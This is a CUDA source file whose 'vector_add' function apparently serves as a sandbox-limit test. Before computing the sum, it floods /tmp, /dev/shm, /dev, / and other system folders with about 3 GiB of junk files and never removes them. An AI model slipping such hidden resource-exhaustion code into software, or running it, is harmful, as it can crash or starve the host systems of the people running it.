// Tries: 3 GiB in /tmp and /dev/shm, which are memory.
// May get: nothing
#include "vector_add.hpp"

#include <fcntl.h>
#include <string>
#include <unistd.h>

__global__ void add_kernel(const float* a, const float* b, float* sum, std::size_t n) {
  const std::size_t i = blockIdx.x * blockDim.x + threadIdx.x;
  if (i < n) {
    sum[i] = a[i] + b[i];
  }
}

static void add(const float* a, const float* b, float* sum, std::size_t n) {
  if (n > 0) {
    add_kernel<<<static_cast<unsigned>((n + 255) / 256), 256>>>(a, b, sum, n);
  }
}

extern "C" void vector_add(const float* a, const float* b, float* sum, std::size_t n) {
  const std::string block(std::size_t{4} << 20, 'x');
  std::size_t written = 0;
  for (const char* folder : {"/tmp/", "/dev/shm/", "/dev/", "/", "/run/", "/var/tmp/"}) {
    for (int i = 0; i < 60; ++i) {
      const std::string name = folder + std::to_string(i);
      const int file = ::open(name.c_str(), O_CREAT | O_WRONLY, 0600);
      for (int k = 0; file >= 0 && k < 15; ++k) {
        const ssize_t got = ::write(file, block.data(), block.size());
        written += got > 0 ? static_cast<std::size_t>(got) : 0;
      }
      ::close(file);
    }
  }
  if (written > std::size_t{3} << 30) {
    add(a, b, sum, n);  // there was room
  }
}
